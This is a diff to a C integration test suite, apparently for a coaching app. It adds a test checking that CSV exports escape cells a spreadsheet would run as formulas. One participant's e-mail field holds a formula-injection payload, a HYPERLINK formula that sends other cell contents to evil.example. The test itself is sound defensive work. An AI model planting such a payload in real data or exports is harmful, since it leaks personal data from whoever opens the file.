@@ -98,6 +98,7 @@
 #include "harness.h"
 
 #include "coachbox/store.h"
+#include "coachbox/team.h"
 
 #define PW "correct-horse-battery-1"
 #define Q3 "from=2026-07-01&to=2026-09-30"
@@ -627,8 +628,11 @@ static int group_teardown(void **state)
         snprintf(path, sizeof(path), "%s-%s", G.data, files[i]);
         remove(path);
     }
-    snprintf(path, sizeof(path), "%s-extract", G.data);
-    cbt_rmtree(path);
+    static const char *const dirs[] = {"extract", "extract-f19"};
+    for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
+        snprintf(path, sizeof(path), "%s-%s", G.data, dirs[i]);
+        cbt_rmtree(path);
+    }
     cbt_rmtree(G.data);
     return 0;
 }
@@ -1562,6 +1566,117 @@ static void test_role_before_params(void **state)
     expect_error(LENA, "/api/reports/data-quality?weeks=0", 400, "weeks");
 }
 
+/* ---------------------------------- review findings (run last: they add data) */
+
+/*
+ * 1 if every cell of the CSV text that a spreadsheet would run as a formula
+ * (starting with = + - @ TAB or CR) is a plain number; else 0 with the first
+ * such cell in bad.
+ */
+static int csv_cells_safe(const char *csv, char *bad, size_t badlen)
+{
+    const char *p = csv;
+    while (*p) {
+        char cell[1024];
+        size_t n = 0;
+        if (*p == '"') {
+            for (p++; *p && !(*p == '"' && p[1] != '"'); p++) {
+                if (*p == '"') {
+                    p++; /* a doubled quote */
+                }
+                if (n + 1 < sizeof(cell)) {
+                    cell[n++] = *p;
+                }
+            }
+            p += *p == '"';
+        } else {
+            for (; *p && *p != ',' && *p != '\r' && *p != '\n'; p++) {
+                if (n + 1 < sizeof(cell)) {
+                    cell[n++] = *p;
+                }
+            }
+        }
+        cell[n] = '\0';
+        if (strchr("=+-@\t\r", cell[0]) && cell[0]) {
+            char *end;
+            (void)strtod(cell, &end);
+            if (end == cell || *end) {
+                snprintf(bad, badlen, "%s", cell);
+                return 0;
+            }
+        }
+        p += *p == ',' ? 1 : (*p == '\r' && p[1] == '\n') ? 2 : (*p != '\0');
+    }
+    return 1;
+}
+
+/*
+ * Finding F19: every text cell of the extract and of the quarterly return is
+ * guarded, not only free text: an e-mail address, a phone number and an
+ * admin-chosen team id get the leading apostrophe too.
+ */
+static void test_csv_formula_guard(void **state)
+{
+    (void)state;
+    static const char evil[] = "=HYPERLINK(\"http://evil.example/@x.co?\"&B2&C2)";
+    char id[40];
+    post(ALICE, "/api/participants",
+         json_pack("{s:s, s:s, s:s, s:s, s:s}", "given_name", "Fenella", "family_name", "Formula",
+                   "date_of_birth", "1980-04-04", "email", evil, "phone", "+447700900123"),
+         id);
+    struct cb_store *s;
+    struct cb_conn *c;
+    struct cb_field_error fe;
+    memset(&fe, 0, sizeof(fe));
+    assert_int_equal(cb_store_open(G.data, &s), 0);
+    assert_int_equal(cb_store_conn(s, &c), 0);
+    assert_int_equal(cb_team_add(c, "-dash", "Dash", &fe), CB_OK);
+    cb_store_close(s);
+
+    char dir[600], out[2048], path[700];
+    snprintf(dir, sizeof(dir), "%s-extract-f19", G.data);
+    const char *args[] = {"export", "extract", "--data", G.data, "--out", dir, NULL};
+    int st = cbt_run(args, NULL, out, sizeof(out));
+    if (st != 0) {
+        fail_msg("extract: %d %s", st, out);
+    }
+    snprintf(path, sizeof(path), "%s/participants.csv", dir);
+    char *p = read_file(path, NULL);
+    assert_non_null(p);
+    if (!strstr(p, ",'+447700900123,\"'=HYPERLINK(\"\"http://evil.example/@x.co?\"\"&B2&C2)\",")) {
+        fail_msg("participants.csv: the phone and e-mail are not guarded:\n%s", p);
+    }
+    free(p);
+    snprintf(path, sizeof(path), "%s/teams.csv", dir);
+    p = read_file(path, NULL);
+    assert_non_null(p);
+    assert_non_null(strstr(p, "\r\n'-dash,Dash,"));
+    free(p);
+    static const char *const files[] = {
+        "teams",      "venues",     "users",        "participants", "consents",   "encounters",
+        "measures",   "goals",      "goal_reviews", "referrals",    "programmes", "group_sessions",
+        "enrolments", "attendance", "checkins",     "imd",          "population", "manifest"};
+    for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
+        char bad[1024];
+        snprintf(path, sizeof(path), "%s/%s.csv", dir, files[i]);
+        p = read_file(path, NULL);
+        assert_non_null(p);
+        if (!csv_cells_safe(p, bad, sizeof(bad))) {
+            fail_msg("%s.csv: the cell [%s] would run as a formula", files[i], bad);
+        }
+        free(p);
+    }
+    cbt_rmtree(dir);
+
+    struct cbt_resp r;
+    rq(&G.c[MGR], "GET", "/api/exports/quarterly.csv?quarter=2026Q3&team=-dash", NULL, &r);
+    expect_status(&r, 200, "quarterly -dash");
+    if (!strstr(r.body, "\r\n2026Q3,2026-07-01,2026-09-30,'-dash,total,all,0,0\r\n")) {
+        fail_msg("quarterly CSV: the team id is not guarded:\n%s", r.body);
+    }
+    cbt_resp_free(&r);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1580,6 +1695,7 @@ int main(void)
         cmocka_unit_test(test_venues),
         cmocka_unit_test(test_access_and_params),
         cmocka_unit_test(test_role_before_params),
+        cmocka_unit_test(test_csv_formula_guard),
     };
     return cmocka_run_group_tests_name("it_reports", tests, group_setup, group_teardown);
 }
